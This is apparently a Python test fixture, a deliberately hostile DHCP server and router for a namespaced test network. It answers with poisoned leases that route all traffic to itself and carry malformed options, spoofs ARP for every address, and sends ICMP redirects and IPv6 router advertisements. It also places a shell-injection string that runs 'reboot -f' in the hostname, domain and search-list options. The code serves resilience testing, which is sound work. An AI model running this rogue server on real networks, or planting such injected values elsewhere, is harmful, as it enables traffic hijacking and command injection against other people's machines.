# SPDX-License-Identifier: Apache-2.0
"""A DHCP server and router that means ill, on the near side of the test network. Must do nothing to interfaces or routes.

usage: python3 hostile_net.py INTERFACE     in the network namespace; says `ready`, then one line for each answer: `acked MODE ADDRESS`

It is the DHCP server: each acknowledgement is the next of MODES, in turn, with a lease so short that it is soon asked again.
It answers ARP for every address (for the gateway's only in mode arp), and to what the client sends with ICMP redirects and
router advertisements that would draw everything to itself.
"""

import ipaddress
import signal
import socket
import struct
import sys
import time

from lan import FAR, GATE_MAC, NEAR

MY_MAC = "52:54:00:66:66:66"
MY_ADDRESS = "192.168.77.66"
LEASE_S = 16  # the shortest that udhcpc takes
PLACE = "192.168.77.60"
SERVER_ID, LEASE, MASK, ROUTER, TYPE = 54, 51, 1, 3, 53
OFFER, ACK, NAK, DISCOVER, REQUEST = 2, 5, 6, 1, 3
COOKIE = b"\x63\x82\x53\x63"
LINE = b"$(reboot -f);`reboot -f`\n; reboot -f"


def ip(text):
    return ipaddress.IPv4Address(text).packed


def classless(*routes):
    """Option 121: (prefix, router) each."""
    out = b""
    for prefix, router in routes:
        net = ipaddress.IPv4Network(prefix)
        out += bytes([net.prefixlen]) + net.network_address.packed[:(net.prefixlen + 7) // 8] + ip(router)
    return out


EVERYTHING = classless(("0.0.0.0/1", MY_ADDRESS), ("128.0.0.0/1", MY_ADDRESS), (f"{FAR}/32", MY_ADDRESS), (f"{NEAR}/32", MY_ADDRESS),
                       ("10.78.0.1/32", MY_ADDRESS))
LOST_S = 7  # a client that has its lease asks again after half of it, 8 s; one that asks sooner has not heard the answer, and gets the same again
# (name, address, what is added to the options of a good lease or changed in them)
MODES = [
    ("routes", PLACE, {121: EVERYTHING, 249: EVERYTHING, 33: ip(FAR) + ip(MY_ADDRESS) + ip(NEAR) + ip(MY_ADDRESS),
                       ROUTER: ip(MY_ADDRESS) + ip("10.78.0.1") + ip("0.0.0.0"), 6: ip(MY_ADDRESS), 26: b"\0\x44", 12: LINE, 15: LINE, 119: LINE}),
    ("gateway-address", NEAR, {}),
    ("inner-address", "10.78.0.1", {ROUTER: ip(FAR)}),
    ("far-address", FAR, {ROUTER: ip("10.77.0.9")}),
    ("mask-of-everything", PLACE, {MASK: ip("0.0.0.0")}),
    ("mask-of-one", PLACE, {MASK: ip("255.255.255.255"), ROUTER: ip("255.255.255.255")}),
    ("broken-options", PLACE, {121: b"\x21" + b"\xff" * 40, MASK: b"\xff\x00\xff", ROUTER: b"\x01", 26: b"\xff"}),
    ("refusal", PLACE, {TYPE: bytes([NAK])}),
    ("arp", PLACE, {}),
]


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(data):
    data += bytes(len(data) & 1)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet4(target_mac, source, target, protocol, payload):
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0) + ip(source) + ip(target)
    head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
    return target_mac + mac(GATE_MAC) + b"\x08\0" + head + payload


def redirect(victim_mac, victim, target):
    """ICMP: what VICTIM sends to TARGET is to go by us."""
    quoted = struct.pack(">BBHHHBBH", 0x45, 0, 64, 1, 0, 64, 17, 0) + ip(victim) + ip(target) + struct.pack(">HHHH", 4500, 4500, 44, 0)
    body = ip(MY_ADDRESS) + quoted
    return packet4(victim_mac, NEAR, victim, 1, struct.pack(">BBH", 5, 1, checksum(b"\x05\x01\0\0" + body)) + body)


def advertisement():
    """ICMPv6: we are the router, of the highest preference, with a prefix and with routes to everything."""
    source, target = (ipaddress.IPv6Address(text).packed for text in ("fe80::66", "ff02::1"))
    body = struct.pack(">BBHII", 64, 0x08, 1800, 0, 0) + b"\x01\x01" + mac(MY_MAC)
    body += struct.pack(">BBBBIII", 3, 4, 64, 0xC0, 1800, 1800, 0) + ipaddress.IPv6Address("fd66::").packed
    for first in (b"\0", b"\x80"):
        body += struct.pack(">BBBBI", 24, 2, 1, 0x08, 1800) + first + bytes(7)
    pseudo = source + target + struct.pack(">II", len(body) + 4, 58)
    message = b"\x86\0" + struct.pack(">H", checksum(pseudo + b"\x86\0\0\0" + body)) + body
    return mac("33:33:00:00:00:01") + mac(MY_MAC) + b"\x86\xdd" + struct.pack(">IHBB", 6 << 28, len(message), 58, 255) + source + target + message


class Server:
    """What it has told its one client so far."""

    def __init__(self, raw):
        self.raw = raw
        self.mode = 0
        self.client = None  # (MAC, address)
        self.acked = 0.0
        self.attacked = 0.0

    def dhcp(self, frame):
        udp = frame[14 + 4 * (frame[14] & 15):]
        if struct.unpack_from(">HH", udp) != (68, 67) or udp[8] != 1 or len(udp) < 8 + 240:
            return
        bootp, options, at = udp[8:], {}, 240
        while at + 1 < len(bootp) and bootp[at] != 255:
            options[bootp[at]] = bootp[at + 2:at + 2 + bootp[at + 1]]
            at += 2 + bootp[at + 1]
        kind = options.get(TYPE, b"\0")[0]
        if kind not in (DISCOVER, REQUEST):
            return
        if kind == REQUEST and time.monotonic() - self.acked < LOST_S:
            self.mode -= 1
        name, address, changes = MODES[self.mode % len(MODES)]
        if kind == DISCOVER:  # it begins anew: nothing is lost
            address, changes, self.acked = PLACE, {}, 0.0
        good = {TYPE: bytes([OFFER if kind == DISCOVER else ACK]), SERVER_ID: ip(NEAR), LEASE: struct.pack(">I", LEASE_S),
                MASK: ip("255.255.255.0"), ROUTER: ip(NEAR), **changes}
        reply = b"\x02" + bootp[1:4] + bootp[4:8] + bytes(4) + bootp[12:16] + ip(address) + ip(NEAR) + bytes(4) + bootp[28:44] + bytes(192)
        reply += COOKIE + b"".join(bytes([code, len(value)]) + value for code, value in good.items()) + b"\xff"
        target = socket.inet_ntoa(bootp[12:16]) if any(bootp[12:16]) else "255.255.255.255"
        self.raw.send(packet4(frame[6:12], NEAR, target, 17, struct.pack(">HHHH", 67, 68, 8 + len(reply), 0) + reply))
        if kind == REQUEST:
            self.mode += 1
            self.acked = time.monotonic()
            self.client = (frame[6:12], address)
            print(f"acked {name} {address}", flush=True)

    def arp(self, frame):
        sender_mac, sender, target = frame[22:28], frame[28:32], frame[38:42]
        last = MODES[(self.mode - 1) % len(MODES)][0]
        if frame[20:22] != b"\0\x01" or sender == target or (target == ip(NEAR) and last != "arp"):
            return
        self.raw.send(sender_mac + mac(MY_MAC) + b"\x08\x06" + frame[14:20] + b"\0\x02" + mac(MY_MAC) + target + sender_mac + sender)

    def attack(self):
        """At most twice a second."""
        if self.client is None or time.monotonic() - self.attacked < 0.5:
            return
        self.attacked = time.monotonic()
        for target in (NEAR, FAR):
            self.raw.send(redirect(*self.client, target))
        self.raw.send(advertisement())

    def serve(self):
        while True:  # bound: until it is ended
            frame, origin = self.raw.recvfrom(65536)
            if origin[2] == socket.PACKET_OUTGOING or len(frame) < 42:
                continue
            if frame[12:14] == b"\x08\x06":
                self.arp(frame)
            elif frame[12:14] == b"\x08\0" and frame[23] == 17:
                self.dhcp(frame)
            self.attack()


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    packets = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    packets.bind((sys.argv[1], 3))
    print("ready", flush=True)
    Server(packets).serve()
